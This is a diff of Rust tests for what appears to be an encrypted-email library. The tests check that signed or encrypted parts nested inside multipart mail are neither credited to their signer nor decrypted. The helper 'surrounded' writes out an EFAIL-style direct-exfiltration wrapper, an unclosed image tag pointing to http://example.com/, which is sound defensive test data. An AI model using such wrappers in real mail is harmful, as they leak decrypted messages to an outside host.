@@ -26,31 +26,52 @@ fn g_01_one_word_for_the_mail_from_its_envelope() {
     }
 }
 
+/// Entities in which this part stands between two others, as Johnny's m1 to m4, EFAIL and Covert Content have it.
+fn surrounded(deep: &str) -> Vec<String> {
+    let around = |kind: &str| {
+        format!(
+            "Content-Type: multipart/{kind}; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n\
+             <img src=\"http://example.com/\r\n--m\r\n{deep}\r\n--m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n"
+        )
+    };
+    ["mixed", "related", "alternative"].map(around).to_vec()
+}
+
+/// This entity as Mallory's signed mail.
+fn by_mallory(w: &crate::World, entity: &str) -> String {
+    let outer = HEAD.replace("Alice <alice@example.org>", "mallory@example.com");
+    clear(&outer, entity, &detached(entity.as_bytes(), &[&w.mallory]))
+}
+
 #[test]
-fn g_03_g_09_x_08_signatures_and_ciphertext_within_a_payload_stay_where_they_are() {
+fn g_03_signatures_within_a_payload_change_no_status() {
     let w = world();
-    // Johnny m1 to m4, EFAIL's direct exfiltration, Covert Content: something around the protected part.
-    let signed = clear("", PAYLOAD, &detached(PAYLOAD.as_bytes(), &[&w.alice]))
-        .replace("--b1", "--inner")
-        .replace("boundary=b1", "boundary=inner");
-    let sealed = sealed_entity(PAYLOAD, CBC, &[&w.bob]);
-    for deep in [&signed, &sealed] {
-        for kind in ["mixed", "related", "alternative"] {
-            let mail = format!(
-                "{HEAD}Content-Type: multipart/{kind}; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n\
-                 <img src=\"http://example.com/\r\n--m\r\n{deep}\r\n--m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n"
-            );
+    let signed = clear("", PAYLOAD, &detached(PAYLOAD.as_bytes(), &[&w.alice]));
+    let signed = signed.replace("--b1", "--inner").replace("boundary=b1", "boundary=inner");
+    for entity in surrounded(&signed) {
+        let mail = format!("{HEAD}{entity}");
+        let seen = open(&mail, &w.ring);
+        assert_eq!((seen.verdict, seen.report.signers.len(), seen.text()), ("unsigned", 0, mail.as_str()));
+        // Within something that Mallory signed, the mail is his, and Alice has no word in it.
+        let seen = open(by_mallory(&w, &entity), &w.ring);
+        assert_eq!((seen.verdict, seen.layers.len(), seen.report.signers.len()), ("verified", 1, 1));
+        assert_eq!(seen.report.signers[0].addresses, ["mallory@example.com"]);
+    }
+}
+
+#[test]
+fn g_09_ciphertext_within_a_payload_is_not_opened() {
+    let w = world();
+    for cipher in [CBC, GCM] {
+        let sealed = sealed_entity(PAYLOAD, cipher, &[&w.bob]);
+        for entity in surrounded(&sealed) {
+            let mail = format!("{HEAD}{entity}");
             let seen = open(&mail, &w.ring);
-            assert_eq!((seen.verdict, seen.confidentiality), ("unsigned", "none"));
-            assert!(seen.report.signers.is_empty() && seen.text() == mail);
-            // Within something that Mallory signed it is no more his to believe, nor is it opened.
-            let entity = mail.strip_prefix(HEAD).unwrap();
-            let outer = HEAD.replace("Alice <alice@example.org>", "mallory@example.com");
-            let mail = clear(&outer, entity, &detached(entity.as_bytes(), &[&w.mallory]));
-            let seen = open(&mail, &w.ring);
+            assert_eq!((seen.verdict, seen.confidentiality, seen.text()), ("unsigned", "none", mail.as_str()));
+            // Nor where Mallory signed what is around it.
+            let seen = open(by_mallory(&w, &entity), &w.ring);
             assert_eq!((seen.verdict, seen.confidentiality, seen.layers.len()), ("verified", "none", 1));
-            assert_eq!(seen.report.signers.len(), 1);
-            assert!(seen.text().contains(deep.as_str()));
+            assert!(seen.text().contains(&sealed) && !seen.text().contains("noon"));
         }
     }
 }
